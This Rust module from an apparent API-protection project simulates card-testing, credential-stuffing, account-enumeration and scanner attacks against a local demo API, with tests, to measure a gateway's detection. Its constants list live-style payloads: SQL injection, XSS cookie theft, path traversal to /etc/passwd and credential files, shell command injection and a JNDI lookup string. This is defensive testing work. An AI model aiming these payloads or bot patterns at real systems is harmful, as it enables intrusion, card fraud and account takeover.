//! The attack campaigns the simulator runs beside (or instead of) customers.
//!
//! Each campaign behaves like the adversary Palisade must catch, and each
//! binds its own population of source addresses (`source_addr(pop, n)`,
//! customers being population 0), so a gateway sees real, distinct peers:
//!
//! - **card testing** (pop 1): a botnet that rotates IPs, one to three
//!   micro charges (50–200 cents) per IP with Luhn-valid stolen cards, all
//!   bots sharing one user agent and header set (one fingerprint).
//! - **credential stuffing** (pop 2): a few login attempts per IP over many
//!   IPs; usernames of real customers and unknown ones, passwords mostly
//!   wrong, now and then a correct pair from a "leaked list", after which it
//!   reads the taken-over account.
//! - **enumeration** (pop 3): logs in once with one valid account, then walks
//!   `/api/v1/accounts/{id}` sequentially, switching source IP every twenty
//!   requests while keeping its bearer token (the BOLA scraper).
//! - **scanner** (pop 4): two IPs, Nikto probing known paths and sqlmap
//!   sending injection payloads in queries, path segments and JSON bodies.
//!
//! A "client" of a campaign is one source address (one bot). An abuse
//! "succeeded" when the unprotected API would have let it through: a stolen
//! card charged (200), a login taken over (200), another customer's account
//! read (200), a probe or injection answered 2xx. This module only sends
//! traffic; it never decides anything about it.

use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::time::{Duration, Instant};

use http::Method;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use serde_json::{Value, json};
use tokio::task::JoinHandle;

use crate::traffic::{Answer, Budget, Counters, SimClient, SimOptions, encode, source_addr};
use crate::world::{self, ACCOUNT_BASE, CUSTOMERS};

/// One attack campaign.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Campaign {
    CardTesting,
    CredentialStuffing,
    Enumeration,
    Scanner,
}

impl Campaign {
    /// All campaigns, in the order `mixed` starts them.
    pub const ALL: [Campaign; 4] = [
        Campaign::CardTesting,
        Campaign::CredentialStuffing,
        Campaign::Enumeration,
        Campaign::Scanner,
    ];

    /// The campaign's name in reports (the scenario's name).
    pub fn name(self) -> &'static str {
        match self {
            Campaign::CardTesting => "card-testing",
            Campaign::CredentialStuffing => "credential-stuffing",
            Campaign::Enumeration => "enumeration",
            Campaign::Scanner => "scanner",
        }
    }

    /// The population index of its source addresses (customers are 0).
    pub fn population(self) -> u8 {
        match self {
            Campaign::CardTesting => 1,
            Campaign::CredentialStuffing => 2,
            Campaign::Enumeration => 3,
            Campaign::Scanner => 4,
        }
    }

    /// Concurrent workers; the campaign's rate is shared among them.
    fn workers(self) -> u32 {
        match self {
            Campaign::CardTesting | Campaign::CredentialStuffing => 4,
            Campaign::Enumeration => 1,
            Campaign::Scanner => 2,
        }
    }
}

/// The card-testing botnet's one user agent (a stale browser string).
pub const CARD_BOT_UA: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36";

/// User agents the stuffing tool rotates through, one per IP.
const STUFFING_UAS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36",
    "okhttp/4.12.0",
];

/// The enumeration scraper's user agent.
const SCRAPER_UA: &str = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/124.0.0.0 Safari/537.36";

/// The scanners' user agents: worker 0 probes paths, worker 1 injects.
pub const SCANNER_UAS: [&str; 2] = [
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
    "sqlmap/1.8.11#stable (https://sqlmap.org)",
];

/// Customers whose credentials leaked (the stuffers hold the right password).
pub const LEAKED: &[u32] = &[3, 41, 97, 150, 222, 318, 404, 477];

/// Passwords from a common-password list (all wrong for every customer).
const COMMON_PASSWORDS: &[&str] = &[
    "123456",
    "password",
    "Password1!",
    "qwerty123",
    "Summer2025!",
    "iloveyou",
    "letmein",
    "Welcome1",
    "admin123",
    "correct-horse-battery-staple",
];

/// Paths Nikto-like scanners probe.
pub const PROBE_PATHS: &[&str] = &[
    "/.env",
    "/admin",
    "/wp-login.php",
    "/.git/config",
    "/api/v1/../../etc/passwd",
    "/api/v1/%2e%2e/%2e%2e/etc/passwd",
    "/phpmyadmin/index.php",
    "/server-status",
    "/actuator/env",
    "/.aws/credentials",
    "/backup.sql",
    "/config.php.bak",
    "/api/v1/admin/users",
    "/cgi-bin/test-cgi",
    "/.DS_Store",
    "/debug/pprof/",
    "/swagger-ui.html",
    "/wp-content/plugins/revslider/temp/update_extract/revslider/x.php",
];

/// Injection payloads sqlmap-like scanners send.
pub const INJECTIONS: &[&str] = &[
    "' OR 1=1--",
    "1 UNION SELECT username,password FROM users--",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(document.cookie)>",
    "; cat /etc/passwd",
    "$(curl http://127.0.0.1:9/x)",
    "${jndi:ldap://x}",
    "../../../../etc/passwd",
    "{{7*7}}",
];

/// Starts `campaign`'s workers after `delay`; they stop when `budget` is spent.
pub(crate) fn spawn(
    campaign: Campaign,
    delay: Duration,
    opts: &SimOptions,
    budget: Arc<Budget>,
    counters: Arc<Counters>,
) -> Vec<JoinHandle<()>> {
    let workers = campaign.workers();
    let pace = Duration::try_from_secs_f64(f64::from(workers) / opts.attack_rate.max(0.1))
        .unwrap_or(Duration::from_secs(1));
    (0..workers)
        .map(|w| {
            let ctx = Ctx {
                opts: opts.clone(),
                budget: budget.clone(),
                counters: counters.clone(),
                pace,
                rng: StdRng::seed_from_u64(
                    opts.seed
                        ^ (u64::from(campaign.population()) << 32)
                        ^ u64::from(w).wrapping_mul(0x9E37_79B9_7F4A_7C15),
                ),
            };
            tokio::spawn(async move {
                if !ctx.wait(delay).await {
                    return;
                }
                match campaign {
                    Campaign::CardTesting => card_testing(ctx, w, workers).await,
                    Campaign::CredentialStuffing => credential_stuffing(ctx, w, workers).await,
                    Campaign::Enumeration => enumeration(ctx).await,
                    Campaign::Scanner => scanner(ctx, w).await,
                }
            })
        })
        .collect()
}

/// What every worker carries.
struct Ctx {
    opts: SimOptions,
    budget: Arc<Budget>,
    counters: Arc<Counters>,
    /// Mean gap between this worker's requests.
    pace: Duration,
    rng: StdRng,
}

/// One source address of a campaign.
struct Bot {
    client: SimClient,
    /// Sent at least one request (counted as a client then).
    used: bool,
    was_blocked: bool,
}

impl Ctx {
    /// Sleeps `d`, never past the run's deadline; false once it has passed.
    async fn wait(&self, d: Duration) -> bool {
        let left = self
            .budget
            .deadline
            .saturating_duration_since(Instant::now());
        tokio::time::sleep(d.min(left)).await;
        Instant::now() < self.budget.deadline
    }

    /// Sleeps about one pace (jittered), never past the deadline.
    async fn pause(&mut self) {
        let d = self.pace.mul_f64(self.rng.random_range(0.5..1.5));
        self.wait(d).await;
    }

    /// A new bot on address `n` of the campaign's population.
    fn bot(&self, pop: u8, n: u32, user_agent: &str) -> Bot {
        Bot {
            client: SimClient::new(&self.opts.target, Some(source_addr(pop, n)), user_agent),
            used: false,
            was_blocked: false,
        }
    }

    /// Sends one request (the caller took it from the budget) and counts it.
    /// `None` when it failed in transport or the gateway stopped it.
    async fn hit(
        &self,
        bot: &mut Bot,
        method: Method,
        path: &str,
        body: Option<Value>,
    ) -> Option<Answer> {
        let c = &self.counters;
        let seq = c.sent();
        if !bot.used {
            bot.used = true;
            c.clients.fetch_add(1, Ordering::Relaxed);
        }
        match bot.client.send(method, path, body).await {
            Ok(a) if a.stopped => {
                c.stopped(seq);
                if !bot.was_blocked {
                    bot.was_blocked = true;
                    c.clients_blocked.fetch_add(1, Ordering::Relaxed);
                }
                None
            }
            Ok(a) => {
                c.reached.fetch_add(1, Ordering::Relaxed);
                Some(a)
            }
            Err(_) => {
                c.errors.fetch_add(1, Ordering::Relaxed);
                None
            }
        }
    }

    fn abuse(&self) {
        self.counters.abuses.fetch_add(1, Ordering::Relaxed);
    }
}

/// Distinct addresses `source_addr` gives per population.
const ADDRS_PER_POP: u32 = 250 * 250;

/// Adds the header set every bot of the card-testing botnet sends.
fn card_bot_headers(client: &mut SimClient) {
    client.add_header("accept-language", "en-US,en;q=0.9");
    client.add_header("origin", "https://shop.example");
    client.add_header("x-requested-with", "XMLHttpRequest");
}

/// Card testing: worker `w` of `workers` owns bots `w, w + workers, ...`.
async fn card_testing(mut ctx: Ctx, w: u32, workers: u32) {
    let pop = Campaign::CardTesting.population();
    let mut n = w;
    loop {
        let mut bot = ctx.bot(pop, n % ADDRS_PER_POP, CARD_BOT_UA);
        card_bot_headers(&mut bot.client);
        for _ in 0..ctx.rng.random_range(1..=3u32) {
            if !ctx.budget.take() {
                return;
            }
            // Stolen cards: far above the customers' seeds.
            let card = world::card_for(ctx.rng.random_range(10_000_000..u64::from(u32::MAX)));
            let body = json!({
                "amount": ctx.rng.random_range(50..=200u32),
                "currency": "eur",
                "description": "Donation",
                "card": {
                    "number": card,
                    "exp_month": ctx.rng.random_range(1..=12u32),
                    "exp_year": ctx.rng.random_range(2026..=2030u32),
                    "cvc": format!("{:03}", ctx.rng.random_range(0..1000u32)),
                }
            });
            if let Some(a) = ctx
                .hit(&mut bot, Method::POST, "/api/v1/charges", Some(body))
                .await
                && a.status == 200
            {
                ctx.abuse();
            }
            ctx.pause().await;
        }
        n = n.wrapping_add(workers);
    }
}

/// Credential stuffing: two to four logins per IP over many IPs.
async fn credential_stuffing(mut ctx: Ctx, w: u32, workers: u32) {
    let pop = Campaign::CredentialStuffing.population();
    let mut n = w;
    loop {
        let ua = STUFFING_UAS[(n as usize) % STUFFING_UAS.len()];
        let mut bot = ctx.bot(pop, n % ADDRS_PER_POP, ua);
        for _ in 0..ctx.rng.random_range(2..=4u32) {
            if !ctx.budget.take() {
                return;
            }
            let roll = ctx.rng.random_range(0..100u32);
            let (username, password) = if roll < 8 {
                // A pair from the leaked list: the right password.
                let c = world::customer(LEAKED[ctx.rng.random_range(0..LEAKED.len())]);
                (c.username, c.password)
            } else if roll < 60 {
                // A real customer, a wrong password.
                let c = world::customer(ctx.rng.random_range(0..CUSTOMERS));
                let pw = if ctx.rng.random_bool(0.5) {
                    COMMON_PASSWORDS[ctx.rng.random_range(0..COMMON_PASSWORDS.len())].to_string()
                } else {
                    // An old password of theirs from another breach.
                    format!("{}!", c.password)
                };
                (c.username, pw)
            } else {
                // Someone the API never knew.
                let u = format!(
                    "user{}@example.com",
                    CUSTOMERS + ctx.rng.random_range(0..50_000)
                );
                let pw = COMMON_PASSWORDS[ctx.rng.random_range(0..COMMON_PASSWORDS.len())];
                (u, pw.to_string())
            };
            let body = json!({"username": username, "password": password});
            if let Some(a) = ctx
                .hit(&mut bot, Method::POST, "/api/v1/login", Some(body))
                .await
                && a.status == 200
            {
                ctx.abuse();
                // A hit: check what the account holds, with its new token.
                let v = serde_json::from_slice::<Value>(&a.body).unwrap_or_default();
                if let (Some(token), Some(account)) =
                    (v["token"].as_str(), v["account_id"].as_u64())
                    && ctx.budget.take()
                {
                    ctx.pause().await;
                    bot.client.set_token(Some(token.to_string()));
                    let path = format!("/api/v1/accounts/{account}");
                    let _ = ctx.hit(&mut bot, Method::GET, &path, None).await;
                    bot.client.set_token(None);
                }
            }
            ctx.pause().await;
        }
        n = n.wrapping_add(workers);
    }
}

/// Requests the enumeration scraper sends from one IP before switching.
pub const REQUESTS_PER_IP: u32 = 20;

/// Enumeration: one account, one token, walking everyone's account ids.
async fn enumeration(mut ctx: Ctx) {
    let pop = Campaign::Enumeration.population();
    let me = world::customer((ctx.opts.seed as u32).wrapping_mul(31).wrapping_add(123) % CUSTOMERS);
    let mut ip = 0u32;
    let mut bot = ctx.bot(pop, ip, SCRAPER_UA);
    let mut on_ip = 0u32;
    let mut token: Option<String> = None;
    // Walks a little past the last account (it does not know where ids end).
    let span = CUSTOMERS + 40;
    let mut k = 0u32;
    loop {
        if on_ip >= REQUESTS_PER_IP {
            ip = ip.wrapping_add(1);
            bot = ctx.bot(pop, ip % ADDRS_PER_POP, SCRAPER_UA);
            bot.client.set_token(token.clone());
            on_ip = 0;
        }
        if !ctx.budget.take() {
            return;
        }
        on_ip += 1;
        if token.is_none() {
            let body = json!({"username": me.username, "password": me.password});
            if let Some(a) = ctx
                .hit(&mut bot, Method::POST, "/api/v1/login", Some(body))
                .await
                && a.status == 200
            {
                token = serde_json::from_slice::<Value>(&a.body)
                    .ok()
                    .and_then(|v| v["token"].as_str().map(str::to_string));
                bot.client.set_token(token.clone());
            }
            ctx.pause().await;
            continue;
        }
        let id = ACCOUNT_BASE + k % span;
        k = k.wrapping_add(1);
        let path = format!("/api/v1/accounts/{id}");
        if let Some(a) = ctx.hit(&mut bot, Method::GET, &path, None).await {
            if a.status == 200 && id != me.account_id {
                ctx.abuse();
            } else if a.status == 401 {
                token = None; // the session ended: log in again
            }
        }
        ctx.pause().await;
    }
}

/// The scanner's requests: worker 0 probes paths, worker 1 injects payloads.
pub fn scanner_probes(worker: u32) -> Vec<(Method, String, Option<Value>)> {
    if worker == 0 {
        return PROBE_PATHS
            .iter()
            .map(|p| (Method::GET, (*p).to_string(), None))
            .collect();
    }
    let mut out = Vec::new();
    for p in INJECTIONS {
        let e = encode(p);
        out.push((Method::GET, format!("/api/v1/search?q={e}"), None));
        out.push((Method::GET, format!("/api/v1/products/{e}"), None));
        out.push((
            Method::POST,
            "/api/v1/login".to_string(),
            Some(json!({"username": p, "password": p})),
        ));
        out.push((Method::GET, format!("/api/v1/search?q=plan&sort={e}"), None));
        out.push((
            Method::POST,
            "/api/v1/charges".to_string(),
            Some(json!({"amount": 100, "currency": p, "card": {"number": p}})),
        ));
    }
    out
}

/// Scanner: cycles through its probes from its own address.
async fn scanner(mut ctx: Ctx, w: u32) {
    let pop = Campaign::Scanner.population();
    let probes = scanner_probes(w);
    let ua = SCANNER_UAS[(w as usize) % SCANNER_UAS.len()];
    let mut bot = ctx.bot(pop, w, ua);
    for (method, path, body) in probes.iter().cycle() {
        if !ctx.budget.take() {
            return;
        }
        if let Some(a) = ctx.hit(&mut bot, method.clone(), path, body.clone()).await
            && (200..300).contains(&a.status)
        {
            ctx.abuse();
        }
        ctx.pause().await;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::traffic::{Scenario, SimReport, run};
    use std::collections::{HashMap, HashSet};
    use std::net::{IpAddr, Ipv4Addr, SocketAddr};
    use std::sync::Mutex;

    use axum::extract::{ConnectInfo, Request, State};
    use axum::middleware::{Next, from_fn_with_state};
    use axum::response::{IntoResponse, Response};

    /// What the test upstream saw, and which peer it plays gateway for.
    #[derive(Default)]
    struct Seen {
        /// Requests per peer address, with the user agents it sent.
        peers: Mutex<HashMap<IpAddr, HashSet<String>>>,
        /// Answer requests from this address as a blocking gateway would.
        block: Option<Ipv4Addr>,
    }

    async fn record(
        State(seen): State<Arc<Seen>>,
        ConnectInfo(peer): ConnectInfo<SocketAddr>,
        req: Request,
        next: Next,
    ) -> Response {
        let ua = req
            .headers()
            .get("user-agent")
            .and_then(|v| v.to_str().ok())
            .unwrap_or("")
            .to_string();
        seen.peers
            .lock()
            .unwrap()
            .entry(peer.ip())
            .or_default()
            .insert(ua);
        if seen.block.map(IpAddr::V4) == Some(peer.ip()) {
            return (
                http::StatusCode::FORBIDDEN,
                axum::Json(json!({"error": "blocked", "request_id": "t"})),
            )
                .into_response();
        }
        next.run(req).await
    }

    /// Runs `scenario` against the demo API (wrapped to record peers).
    async fn against_demo(
        scenario: Scenario,
        max_requests: u64,
        block: Option<Ipv4Addr>,
    ) -> (SimReport, HashMap<IpAddr, HashSet<String>>) {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        let seen = Arc::new(Seen {
            block,
            ..Seen::default()
        });
        let app = crate::upstream::router().layer(from_fn_with_state(seen.clone(), record));
        let (tx, rx) = tokio::sync::oneshot::channel::<()>();
        let server = tokio::spawn(async move {
            axum::serve(
                listener,
                app.into_make_service_with_connect_info::<SocketAddr>(),
            )
            .with_graceful_shutdown(async {
                let _ = rx.await;
            })
            .await
        });
        let mut opts = SimOptions::new(&format!("http://{addr}")).unwrap();
        opts.duration = Duration::from_secs(60);
        opts.max_requests = max_requests;
        opts.customer_rate = 5000.0;
        opts.concurrent_customers = 5;
        opts.attack_rate = 5000.0;
        opts.attack_start = Duration::ZERO;
        opts.attack_stagger = Duration::ZERO;
        let report = run(scenario, &opts).await;
        let _ = tx.send(());
        server.await.unwrap().unwrap();
        let peers = seen.peers.lock().unwrap().clone();
        (report, peers)
    }

    /// The peers of population `pop` the upstream saw.
    fn of_pop(peers: &HashMap<IpAddr, HashSet<String>>, pop: u8) -> usize {
        peers
            .keys()
            .filter(|ip| matches!(ip, IpAddr::V4(v4) if v4.octets()[1] == 10 + pop))
            .count()
    }

    #[tokio::test]
    async fn card_testing_botnet_rotates_ips_and_finds_working_cards() {
        let (r, peers) = against_demo(Scenario::CardTesting, 90, None).await;
        let c = r.campaign("card-testing").unwrap();
        assert_eq!(c.requests, 90, "{r}");
        assert_eq!(c.errors, 0, "{r}");
        assert_eq!(c.reached_upstream, 90);
        assert_eq!((c.blocked, c.requests_until_first_block), (0, None));
        assert!(c.is_attack());
        // One to three attempts per IP: at least 30 distinct peers.
        let bots = of_pop(&peers, 1);
        assert!(bots >= 30, "{bots} peers");
        assert_eq!(bots as u64, c.clients);
        // All bots share one user agent (one fingerprint).
        let uas: HashSet<_> = peers.values().flatten().collect();
        assert_eq!(uas.len(), 1);
        assert!(uas.contains(&CARD_BOT_UA.to_string()));
        // The unprotected API approves about one stolen card in eight.
        assert!(
            c.abuses_succeeded > 0 && c.abuses_succeeded < 45,
            "{} approved",
            c.abuses_succeeded
        );
    }

    #[tokio::test]
    async fn credential_stuffing_takes_over_leaked_accounts() {
        let (r, peers) = against_demo(Scenario::CredentialStuffing, 120, None).await;
        let c = r.campaign("credential-stuffing").unwrap();
        assert_eq!((c.requests, c.reached_upstream, c.errors), (120, 120, 0));
        let bots = of_pop(&peers, 2);
        // Two to four attempts per IP.
        assert!(bots >= 30, "{bots} peers");
        assert_eq!(bots as u64, c.clients);
        // Mostly failures, a few takeovers.
        assert!(c.abuses_succeeded > 0, "{r}");
        assert!(c.abuses_succeeded * 4 < c.requests, "{r}");
    }

    #[tokio::test]
    async fn enumeration_reads_other_accounts_switching_ip_every_twenty() {
        let (r, peers) = against_demo(Scenario::Enumeration, 100, None).await;
        let c = r.campaign("enumeration").unwrap();
        assert_eq!((c.requests, c.reached_upstream, c.errors), (100, 100, 0));
        assert_eq!(of_pop(&peers, 3), 5, "{peers:?}");
        assert_eq!(c.clients, 5);
        // One login, then 99 reads of which at most one is its own account.
        assert!(c.abuses_succeeded >= 98, "{r}");
    }

    #[tokio::test]
    async fn scanner_probes_from_two_ips_and_some_injections_get_answers() {
        let (r, peers) = against_demo(Scenario::Scanner, 60, None).await;
        let c = r.campaign("scanner").unwrap();
        assert_eq!((c.requests, c.reached_upstream, c.errors), (60, 60, 0));
        assert_eq!(of_pop(&peers, 4), 2);
        let uas: HashSet<_> = peers.values().flatten().cloned().collect();
        assert_eq!(uas, SCANNER_UAS.iter().map(|s| s.to_string()).collect());
        // The demo's search answers 200 to whatever it is given.
        assert!(c.abuses_succeeded > 0 && c.abuses_succeeded < 60, "{r}");
    }

    #[tokio::test]
    async fn mixed_runs_customers_and_all_campaigns_from_separate_populations() {
        let (r, peers) = against_demo(Scenario::Mixed, 600, None).await;
        let names: Vec<_> = r.campaigns.iter().map(|c| c.name.as_str()).collect();
        assert_eq!(
            names,
            [
                "customers",
                "card-testing",
                "credential-stuffing",
                "enumeration",
                "scanner"
            ]
        );
        assert_eq!(r.campaigns.iter().map(|c| c.requests).sum::<u64>(), 600);
        for c in &r.campaigns {
            assert!(c.requests > 0, "{r}");
            assert_eq!(c.errors, 0, "{r}");
        }
        let customers = r.campaign("customers").unwrap();
        assert_eq!(customers.falsely_blocked, Some(0));
        assert!(!customers.is_attack());
        for pop in 0..=4 {
            assert!(of_pop(&peers, pop) > 0, "population {pop}: {peers:?}");
        }
        let shown = r.to_string();
        for n in names {
            assert!(shown.contains(n), "{shown}");
        }
    }

    #[tokio::test]
    async fn blocks_are_counted_with_the_requests_before_the_first() {
        // A "gateway" that stops the scraper's second address only.
        let (r, _) = against_demo(Scenario::Enumeration, 60, Some(source_addr(3, 1))).await;
        let c = r.campaign("enumeration").unwrap();
        assert_eq!(c.requests, 60);
        assert_eq!(c.blocked, 20, "{r}");
        assert_eq!(c.reached_upstream, 40);
        assert_eq!(c.requests_until_first_block, Some(20));
        assert_eq!((c.clients_blocked, c.clients), (1, 3));
        // It kept its token on the third address and went on reading.
        assert!(c.abuses_succeeded >= 37, "{r}");
        assert!(r.to_string().contains("1/3"), "{r}");
    }

    #[test]
    fn every_scenario_name_parses_and_round_trips() {
        for name in Scenario::ALL {
            let s = Scenario::parse(name).unwrap();
            assert_eq!(serde_json::to_value(s).unwrap(), json!(name));
        }
        for c in Campaign::ALL {
            assert!(Scenario::ALL.contains(&c.name()));
        }
    }

    #[test]
    fn probes_carry_the_payloads_encoded_into_valid_uris() {
        let inj = scanner_probes(1);
        assert_eq!(inj.len(), INJECTIONS.len() * 5);
        for (_, path, _) in inj.iter().chain(scanner_probes(0).iter()) {
            assert!(path.parse::<http::Uri>().is_ok(), "{path}");
        }
        assert!(
            inj.iter()
                .any(|(_, p, _)| p == "/api/v1/search?q=%27%20OR%201%3D1--")
        );
    }
}
